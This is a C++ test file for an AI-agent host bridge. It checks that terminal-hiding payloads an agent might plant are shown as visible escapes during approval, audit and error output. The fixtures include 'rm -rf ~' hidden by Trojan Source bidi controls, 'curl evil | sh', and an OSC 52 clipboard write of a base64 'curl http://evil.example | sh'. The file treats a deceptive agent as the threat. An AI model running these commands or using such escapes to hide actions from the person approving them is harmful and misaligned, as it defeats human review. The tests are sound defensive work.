// Nothing the agent wrote reaches a person's terminal raw: the terminal
// payload of issue 12 (a carriage return and an erase-line sequence that
// hide a command in a diff), Trojan Source bidirectional controls, C1
// controls, invalid UTF-8 and a NUL byte, fed through approve, doctor,
// audit, list and the error messages. Each must show visible escapes
// (`\x1b`, `\u202e`) and never the raw bytes; approve shows a file that is
// not plain text as a hex dump with its size and SHA-256.
#include <sstream>

#include <gtest/gtest.h>

#include <algorithm>

#include "admin/util/change_view.hpp"
#include "admin/util/fs_util.hpp"
#include "common/audit_log.hpp"
#include "common/sha256.hpp"
#include "display/visible.hpp"
#include "tests/cli/cli_harness.hpp"

namespace hb::test {
namespace {

// What the attack looks like on a terminal that obeys it: "+echo ..." only.
const std::string kHidden = "touch /tmp/x #\r\x1b[K+echo \"status checked\"";
const std::string kRlo = "\xe2\x80\xae";   // U+202E RIGHT-TO-LEFT OVERRIDE
const std::string kLri = "\xe2\x81\xa6";   // U+2066 LEFT-TO-RIGHT ISOLATE
const std::string kPdi = "\xe2\x81\xa9";   // U+2069 POP DIRECTIONAL ISOLATE
const std::string kZwsp = "\xe2\x80\x8b";  // U+200B ZERO WIDTH SPACE
const std::string kCsi = "\xc2\x9b";       // U+009B, the C1 form of ESC [
// Trojan Source (CVE-2021-42574): reads as a comment, runs as code.
const std::string kTrojan = "echo ok # " + kRlo + " } " + kLri + "; rm -rf ~ " + kPdi + " " + kLri +
                            "\n" + "echo" + kZwsp + " done " + kCsi + "2J\n";

// No byte a terminal would act on or hide: C0 but newline and tab (the
// only ones rendering keeps), DEL, C1, the bidi and zero-width set.
void expect_no_raw(const std::string& out, const std::string& where) {
    for (std::size_t i = 0; i < out.size(); ++i) {
        const auto c = static_cast<unsigned char>(out[i]);
        if ((c < 0x20 && c != '\n' && c != '\t') || c == 0x7f) {
            ADD_FAILURE() << where << ": raw byte 0x" << std::hex << int(c) << " at " << std::dec
                          << i << " in:\n"
                          << display::visible_text(out);
            return;
        }
    }
    for (const std::string& raw : {kRlo, kLri, kPdi, kZwsp, kCsi, std::string("\xff")}) {
        EXPECT_EQ(out.find(raw), std::string::npos)
            << where << ": raw " << display::visible(raw) << " in:\n"
            << display::visible_text(out);
    }
}

TEST(Visible, EscapesEveryDangerousCharacterAndKeepsTheRest) {
    EXPECT_EQ(display::visible(kHidden), "touch /tmp/x #\\r\\x1b[K+echo \"status checked\"");
    EXPECT_EQ(display::visible(std::string("a\tb\nc\x7f\0z", 8)), "a\\tb\\nc\\x7f\\x00z");
    EXPECT_EQ(display::visible_text("a\tb\nc\r\n"), "a\tb\nc\\r\n");
    EXPECT_EQ(display::visible(kRlo + kLri + kPdi + kZwsp + kCsi),
              "\\u202e\\u2066\\u2069\\u200b\\u009b");
    // Invalid UTF-8: each byte as evidence, never "?".
    EXPECT_EQ(display::visible("\xff\xc0\xaf\xed\xa0\x80x"), "\\xff\\xc0\\xaf\\xed\\xa0\\x80x");
    EXPECT_EQ(display::visible("\xf3\xa0\x80\x81"), "\\U000e0001");  // a tag character
    EXPECT_EQ(display::visible("caf\xc3\xa9 \xe2\x82\xac"), "caf\xc3\xa9 \xe2\x82\xac");
    EXPECT_TRUE(display::is_plain_text("plain\ttext\n"));
    EXPECT_FALSE(display::is_plain_text(kHidden));
    EXPECT_FALSE(display::is_plain_text(std::string("a\0b", 3)));
    EXPECT_FALSE(display::is_plain_text(kTrojan));
    EXPECT_EQ(display::visible_json("{\"r\":\"" + kRlo + "\x7f" + "\"}"),
              "{\"r\":\"\\u202e\\u007f\"}");
    EXPECT_EQ(nlohmann::json::parse(display::visible_json("{\"r\":\"" + kRlo + "\"}"))["r"], kRlo);
}

TEST(Visible, ShellQuoteStaysPasteableAndVisible) {
    EXPECT_EQ(admin::shell_quote("/p/.stuck-a\x1b[2Jb"), "$'/p/.stuck-a\\x1b[2Jb'");
    EXPECT_EQ(admin::shell_quote("it's\r"), "$'it\\'s\\x0d'");
    EXPECT_EQ(admin::shell_quote("two words"), "'two words'");
}

class NoRaw : public ::testing::Test {
  protected:
    void SetUp() override {
        Ran run = home.hostbridge(install_args(project, {"--no-systemd"}));
        ASSERT_EQ(run.code, 0) << run.out << run.err;
    }
    Ran approve(bool yes) const {
        std::vector<std::string> args = {"approve", "--slug", "demo-app"};
        if (yes) args.push_back("--yes");
        return home.hostbridge(args);
    }
    TempDir root{"cli"};
    Home home{root.path()};
    Project project{root.path(), "demo-app"};
};

TEST_F(NoRaw, ApproveShowsTheHiddenCommand) {
    const std::string stack = read_file(project.stack) + kHidden + "\n";
    write_file(project.stack, stack, 0755);
    Ran run = approve(false);
    EXPECT_EQ(run.code, 1);
    expect_no_raw(run.out, "approve stdout");
    expect_no_raw(run.err, "approve stderr");
    EXPECT_TRUE(has_line(run.out, "+touch /tmp/x #\\r\\x1b[K+echo \"status checked\"")) << run.out;
    // Size and SHA-256 of what would be pinned, and the bytes in hex.
    EXPECT_TRUE(contains(
        run.out, std::to_string(stack.size()) + " bytes, sha256 " + common::sha256_hex(stack)))
        << run.out;
    // The hidden bytes, wherever the 16-byte rows happen to split them.
    std::string hex;
    for (const std::string& line : split_lines(run.out)) {
        if (!line.starts_with("+ 000")) continue;
        const auto bar = line.find('|');
        std::istringstream words(line.substr(11, bar - 11));
        for (std::string w; words >> w;) hex += w + " ";
    }
    EXPECT_TRUE(contains(hex, "20 23 0d 1b 5b 4b 2b ")) << run.out;
}

TEST_F(NoRaw, ApproveShowsTrojanSource) {
    write_file(project.dir + "/.env", kTrojan);
    Ran run = approve(true);
    ASSERT_EQ(run.code, 0) << run.err;
    expect_no_raw(run.out, "approve stdout");
    for (const char* escape : {"\\u202e", "\\u2066", "\\u2069", "\\u200b", "\\u009b"}) {
        EXPECT_TRUE(contains(run.out, escape)) << escape << "\n" << run.out;
    }
    EXPECT_TRUE(contains(run.out, "e2 80 ae")) << run.out;  // RLO in the hex dump
}

// Issue 19: a NUL byte must not turn the diff into "Binary files differ".
TEST_F(NoRaw, ApproveShowsEveryByteOfABinaryFile) {
    std::string stack = read_file(project.stack);
    const std::size_t line2 = stack.find('\n') + 1;
    stack.insert(line2, std::string("\0", 1) + "curl evil | sh\n");
    write_file(project.stack, stack, 0755);

    Ran asked = approve(false);  // no terminal: shown, nothing pinned
    EXPECT_EQ(asked.code, 1);
    EXPECT_FALSE(contains(asked.out, "Binary files")) << asked.out;
    expect_no_raw(asked.out, "approve stdout");
    EXPECT_TRUE(contains(asked.out, "\\x00curl evil | sh")) << asked.out;
    EXPECT_TRUE(contains(
        asked.out, std::to_string(stack.size()) + " bytes, sha256 " + common::sha256_hex(stack)))
        << asked.out;
    EXPECT_TRUE(contains(asked.out, "00 63 75 72 6c")) << asked.out;  // "\0curl" in hex
    EXPECT_TRUE(contains(asked.out, "|#!/bin/sh..curl |")) << asked.out;

    Ran yes = approve(true);  // --yes prints the same, then pins it
    ASSERT_EQ(yes.code, 0) << yes.err;
    EXPECT_EQ(yes.out.substr(0, asked.out.size()), asked.out);
    EXPECT_EQ(read_file(home.state_dir("demo-app") + "/approved/stack"), stack);
}

TEST(ChangeView, HexDumpCoversExactlyTheChangedRows) {
    std::string before(64, 'a');
    std::string after = before;
    after[40] = '\0';
    auto shown = admin::render_change("approved/f", before, "f", after);
    ASSERT_TRUE(shown) << shown.error().message;
    EXPECT_TRUE(contains(*shown, "bytes 0x28 to 0x28 (1 changed)")) << *shown;
    EXPECT_TRUE(contains(*shown, "+ 00000020  61 61 61 61 61 61 61 61  00 61")) << *shown;
    EXPECT_FALSE(contains(*shown, "00000010")) << *shown;  // unchanged rows left out
    EXPECT_FALSE(contains(*shown, "Binary")) << *shown;
}

TEST_F(NoRaw, DoctorShowsPlantedNamesAndDiffsVisibly) {
    // A name cannot hold "/": the payload with "_" instead.
    std::string hidden = kHidden;
    std::replace(hidden.begin(), hidden.end(), '/', '_');
    const std::string stuck = ".stuck-" + hidden + kRlo;
    write_file(project.spool() + "/requests/" + stuck, "{}");
    write_file(project.stack, read_file(project.stack) + kTrojan, 0755);
    Ran run = home.hostbridge({"doctor", "--slug", "demo-app"});
    EXPECT_EQ(run.code, 1);
    expect_no_raw(run.out, "doctor stdout");
    expect_no_raw(run.err, "doctor stderr");
    EXPECT_TRUE(contains(run.out, ".stuck-touch _tmp_x #\\r\\x1b[K+echo")) << run.out;
    EXPECT_TRUE(contains(run.out, "\\u202e")) << run.out;
    // The fix quotes the name so that it can be pasted, and shows it.
    EXPECT_TRUE(contains(
        run.out, "rm -rf -- $'" + project.spool() + "/requests/.stuck-touch _tmp_x #\\x0d\\x1b[K"))
        << run.out;
}

TEST_F(NoRaw, AuditShowsEveryFieldVisiblyWithTheRequestName) {
    {
        auto log = common::AuditLog::open(home.state_dir("demo-app"));
        ASSERT_TRUE(log) << log.error().message;
        common::AuditRecord record;
        record.event = common::AuditEvent::Quarantined;
        record.request = "2026-ping-" + kHidden + ".json";
        record.arg = kRlo + "api" + kPdi;
        record.reason = "bad name " + kHidden + kTrojan;
        ASSERT_TRUE(log->append(record));
    }
    Ran table = home.hostbridge({"audit", "--slug", "demo-app"});
    ASSERT_EQ(table.code, 0) << table.err;
    expect_no_raw(table.out, "audit table");
    EXPECT_TRUE(contains(split_lines(table.out).at(0), "REQUEST")) << table.out;
    EXPECT_TRUE(contains(table.out, "2026-ping-touch")) << table.out;
    EXPECT_TRUE(contains(table.out, "\\u202eapi\\u2069")) << table.out;
    EXPECT_TRUE(contains(table.out, "#\\r\\x1b[K+echo")) << table.out;

    Ran json = home.hostbridge({"audit", "--slug", "demo-app", "--json", "--tail", "1"});
    ASSERT_EQ(json.code, 0) << json.err;
    expect_no_raw(json.out, "audit --json");
    auto event = nlohmann::json::parse(split_lines(json.out).at(0));
    EXPECT_EQ(event["arg"], kRlo + "api" + kPdi);  // the same value, escaped
    EXPECT_EQ(event["reason"], "bad name " + kHidden + kTrojan);
    EXPECT_EQ(home.hostbridge({"audit", "--slug", "demo-app", "--verify"}).code, 0);
}

TEST_F(NoRaw, ListShowsTheLastEventVisibly) {
    // A damaged log line (the log is the host's; list must not trust it).
    const std::string log = home.state_dir("demo-app") + "/audit.jsonl";
    write_file(
        log,
        read_file(log) +
            nlohmann::json({{"ts", kHidden}, {"event", kRlo + "x"}, {"request", "n"}}).dump() +
            "\n",
        0600);
    Ran run = home.hostbridge({"list"});
    ASSERT_EQ(run.code, 0) << run.err;
    expect_no_raw(run.out, "list");
    EXPECT_TRUE(contains(run.out, "\\x1b[K+echo")) << run.out;
    EXPECT_TRUE(contains(run.out, "\\u202ex")) << run.out;
}

// The agent forges the answer a person's `hostbridge request` reads on the
// host: an OSC 52 clipboard write of a command, an erase-line and a lone CR
// in the output and the reason. On a terminal none of it arrives raw.
TEST_F(NoRaw, TheRequestClientOnATerminalShowsAForgedAnswerVisibly) {
    const std::string osc52 = "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=\x07";
    Interactive terminal(
        home.command({"request", "--project-dir", project.dir, "--timeout", "30", "status"}));
    const std::string name = wait_for_json(project.spool() + "/requests", std::chrono::seconds(30));
    ASSERT_FALSE(name.empty());
    const nlohmann::json forged = {{"request", name},
                                   {"state", "failed"},
                                   {"verb", "status"},
                                   {"arg", nullptr},
                                   {"requested_at", "2026-12-02T00:00:00Z"},
                                   {"updated_at", "2026-12-02T00:00:01Z"},
                                   {"expires_at", nullptr},
                                   {"exit_code", 1},
                                   {"reason", "ok\r\x1b[2K" + osc52},
                                   {"output", "all good\n" + osc52 + "\x1b[2K\rhidden\n"},
                                   {"log", nullptr}};
    publish_response(project.spool(), name, forged.dump());
    terminal.finish();
    std::string shown = terminal.shown();
    // The terminal's own line ends (CR LF) are not the agent's.
    for (std::size_t at; (at = shown.find("\r\n")) != std::string::npos;) shown.erase(at, 1);
    EXPECT_NE(shown.find("\\x1b]52"), std::string::npos) << display::visible_text(shown);
    expect_no_raw(shown, "hostbridge request on a terminal");
}

TEST_F(NoRaw, ErrorMessagesQuoteVisibly) {
    Ran run = home.hostbridge({"doctor", "--slug", "x" + kHidden + kRlo});
    EXPECT_EQ(run.code, 2);
    expect_no_raw(run.err, "doctor --slug");
    EXPECT_TRUE(contains(run.err, "x" + display::visible(kHidden) + "\\u202e")) << run.err;
    Ran unknown = home.hostbridge({"\x1b]0;owned\x07"});
    expect_no_raw(unknown.err, "unknown command");
    EXPECT_TRUE(contains(unknown.err, "\\x1b]0;owned\\x07")) << unknown.err;
}

}  // namespace
}  // namespace hb::test
